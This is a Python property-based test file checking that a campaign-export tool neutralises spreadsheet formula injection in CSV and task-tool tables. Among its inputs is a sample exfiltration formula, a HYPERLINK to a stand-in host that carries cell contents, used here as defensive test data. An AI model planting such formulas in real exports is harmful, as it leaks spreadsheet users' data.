"""No cell becomes a formula, whatever people have typed, and what is harmless stays as it is."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mopsdocs.campaigns.exports.cells import inert, table
from mopsdocs.campaigns.exports.targets import TableTarget, table_for
from tests.campaigns.exports.campaigns import columns, export, rows
from tests.campaigns.plans import stage, step

TARGETS: tuple[TableTarget, ...] = ("csv", "asana", "jira", "clickup", "monday")
STARTERS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212\ufe63\ufe62\ufe66\ufe6b"
NASTY = st.text(st.sampled_from([*STARTERS, *" \t\r\n\"'`,;|aZ9(!", "\u00a0", "\u3000", "\u00ad"]), max_size=14)
HOSTILE = st.one_of(NASTY, st.text(max_size=20), st.just('=HYPERLINK("https://example.com/?"&A1;"x")'))


def begins(cell: str) -> str:
    """What a spreadsheet looks at: the first character behind blanks, quotes and what nobody sees."""
    return cell.lstrip(
        " \t\r\n\x0b\x0c\x1c\x1d\x1e\x1f\x85\u00a0\u00ad\u1680\u2028\u2029\u202f\u205f\u3000\"'`"
        + "".join(map(chr, range(0x2000, 0x200B)))
    )[:1]


def cells(data: bytes, delimiter: str) -> list[str]:
    """What a spreadsheet makes of a table if it takes `delimiter` for what stands between cells."""
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text, delimiter=delimiter) for cell in row]


@given(st.lists(st.lists(HOSTILE, min_size=2, max_size=3), min_size=1, max_size=4))
@example([["", "\r=3"], ["\u2028=1", "b\x0b@4"]])
@example([["a;=1", 'b";"=2'], ["\n=3", "x\n\t@4"]])
def test_no_cell_begins_a_formula(written: list[list[str]]) -> None:
    data = table(["A", "B"], written)
    for delimiter in ",;\t":
        assert [cell for cell in cells(data, delimiter) if begins(cell) in (*STARTERS,)] == []


@given(st.lists(st.lists(HOSTILE, min_size=1, max_size=3), max_size=4))
def test_a_table_is_read_back_cell_by_cell(written: list[list[str]]) -> None:
    assert rows(table(["Ä"], written)) == [["Ä"], *[[inert(cell) for cell in row] for row in written]]


@given(st.text(st.characters(exclude_characters=f"{STARTERS}*", exclude_categories=["Cs"]), max_size=40))
def test_what_is_harmless_stays(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "“=1+1”"),
        ("  +49 30", "“  +49 30”"),
        ("a\t@b", "a\t\u2019@b"),
        ("\uff1d1", "“\uff1d1”"),
        ('"=1', '“"=1”'),
        ("'@SUM(A1)", "“'@SUM(A1)”"),
        ("a;=1", "a;\u2019=1"),
        ("-10 % for early birds", "“-10 % for early birds”"),
        ("Do this:\n- one\n  * two\n=3", "Do this:\n• one\n• two\n\u2019=3"),
        ("[DE-WEB-1] a - b = c; d, -e @ f", "[DE-WEB-1] a - b = c; d, -e @ f"),
        ("", ""),
    ],
)
def test_cells(text: str, cell: str) -> None:
    assert inert(text) == cell


def test_every_row_ends_with_cr_and_lf() -> None:
    assert table(["A", "B"], [["1", 'say "x"\ntwice'], ["ü", ""]]) == (
        b'"A","B"\r\n"1","say ""x""\ntwice"\r\n"\xc3\xbc",""\r\n'
    )


@pytest.mark.parametrize("target", TARGETS)
@settings(max_examples=40)
@given(title=HOSTILE, name=HOSTILE, stages=HOSTILE, about=HOSTILE)
def test_no_table_has_a_formula(target: TableTarget, title: str, name: str, stages: str, about: str) -> None:
    work = stage(step("a", "-2h", title=title, description=about), step("b", "0d", title=title, depends_on=["a"]))
    data = table_for(target, [export([{**work, "title": stages}], title=name)])
    for delimiter in ",;\t":
        assert [cell for cell in cells(data, delimiter) if begins(cell) in (*STARTERS,)] == []


@settings(max_examples=50)
@given(first=HOSTILE, second=HOSTILE)
def test_dependencies_in_asana_are_names_of_earlier_rows(first: str, second: str) -> None:
    work = [step("a", "0d", title=first), step("b", "0d", title=second), step("c", "0d", depends_on=["a", "b"])]
    seen: list[str] = []
    named: list[str] = []
    for row in columns(table_for("asana", [export([stage(*work)])])):
        named = row["Dependencies"].split(",") if row["Dependencies"] else []
        assert set(named) <= set(seen)
        assert "," not in row["Name"]
        seen.append(row["Name"])
    assert len(named) == 2
